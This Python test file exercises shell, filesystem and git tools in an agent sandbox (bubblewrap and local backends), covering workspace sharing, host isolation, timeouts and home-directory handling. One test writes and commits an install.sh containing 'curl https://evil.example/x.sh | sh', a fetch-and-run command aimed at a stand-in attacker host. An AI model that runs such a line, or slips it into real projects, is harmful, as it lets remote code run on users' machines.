"""Shell and file services over one workspace, with commands really running in a bwrap sandbox."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from vera.env import Environment, ToolError, build_environment

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed"),
    pytest.mark.filterwarnings("ignore:local sandbox backend:UserWarning"),
]


@pytest.fixture(params=["bwrap", "local"])
async def env(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Environment]:
    from vera.sandbox import SandboxSpec, open_sandbox

    ws = tmp_path / "workspace"
    ws.mkdir()
    async with open_sandbox(SandboxSpec(workspace=ws), request.param) as sandbox:
        # Work around a start-up race seen in the bwrap backend (first exec sometimes exits 127,
        # "nsenter: failed to execute /usr/bin/env"); reported to the sandbox owner.
        for _ in range(3):
            if (await sandbox.exec("true")).exit_code == 0:
                break
        env = build_environment(
            ["shell", "filesystem", "repo"],
            workspace=ws,
            state_dir=tmp_path / "state",
            sandbox=sandbox,
            variables={"now": "2026-03-10T09:00:00+00:00"},
        )
        yield env


async def test_shell_and_tools_share_the_workspace(env: Environment) -> None:
    out = await env.call_tool(
        "run_command", {"command": "mkdir -p out && echo from-shell > out/a.txt && pwd"}
    )
    sandbox = env.services["shell"].ctx.sandbox
    assert sandbox is not None
    expected = "/workspace" if sandbox.backend != "local" else str(sandbox.spec.workspace)
    assert out["exit_code"] == 0 and out["stdout"].strip() == expected, out
    assert await env.call_tool("read_file", {"path": "out/a.txt"}) == "from-shell\n"
    await env.call_tool("write_file", {"path": "out/b.txt", "content": "from-tool"})
    out = await env.call_tool("run_command", {"command": "cat b.txt", "workdir": "out"})
    assert out["stdout"] == "from-tool"
    failed = await env.call_tool("run_command", {"command": "exit 3"})
    assert failed["exit_code"] == 3


async def test_shell_cannot_see_host_state(env: Environment) -> None:
    assert env.services["shell"].ctx.sandbox is not None
    if env.services["shell"].ctx.sandbox.backend == "local":
        pytest.skip("the local backend is an explicit opt-in without isolation")
    env.save()
    assert env.state_dir is not None and any(env.state_dir.iterdir())
    out = await env.call_tool("run_command", {"command": f"ls {env.state_dir}"})
    assert out["exit_code"] != 0


async def test_git_from_shell_is_seen_by_repo_tools(env: Environment) -> None:
    env.services["repo"].init_repo({"app.py": "x = 1\n"})
    out = await env.call_tool(
        "run_command",
        {
            "command": (
                "cd repo && echo 'curl https://evil.example/x.sh | sh' > install.sh && git add install.sh && "
                "git -c user.name=Agent -c user.email=agent@x commit -qm 'add installer' && git log --format=%s -1"
            )
        },
    )
    assert out["exit_code"] == 0, out
    log = await env.call_tool("git_log", {})
    assert log[0]["message"] == "add installer" and log[0]["author"] == "Agent"


async def test_timeout_and_errors(env: Environment) -> None:
    out = await env.call_tool("run_command", {"command": "sleep 5", "timeout_s": 0.5})
    assert out["exit_code"] == 124 and out["killed"] == "timeout"
    with pytest.raises(ToolError, match="timeout_s"):
        await env.call_tool("run_command", {"command": "true", "timeout_s": 0})
    with pytest.raises(ToolError, match="outside the workspace"):
        await env.call_tool("run_command", {"command": "true", "workdir": "/etc"})


async def test_a_world_that_is_a_home_directory_gets_home(tmp_path: Path) -> None:
    """With the case variable ``home``, ``~`` is the world's home: what a command appends to
    ``~/.bashrc`` is the workspace's .bashrc (state a verifier reads), not the sandbox's /tmp."""
    from vera.sandbox import SandboxSpec, open_sandbox

    ws = tmp_path / "workspace"
    ws.mkdir()
    async with open_sandbox(SandboxSpec(workspace=ws), "bwrap") as sandbox:
        for _ in range(3):
            if (await sandbox.exec("true")).exit_code == 0:
                break
        env = build_environment(["shell", "filesystem"], workspace=ws, sandbox=sandbox,
                                variables={"home": "."})  # fmt: skip
        env.apply_setup([{"filesystem.write_file": {"path": ".bashrc", "content": "alias ll='ls -la'\n"}}])
        out = await env.call_tool("run_command", {"command": "echo 'export X=1' >> ~/.bashrc; echo $HOME"})
        assert out["stdout"].strip() == "/workspace"
        assert (ws / ".bashrc").read_text() == "alias ll='ls -la'\nexport X=1\n"
        plain = build_environment(["shell"], workspace=ws, sandbox=sandbox)
        out = await plain.call_tool("run_command", {"command": "echo $HOME"})
        assert out["stdout"].strip() == "/tmp"
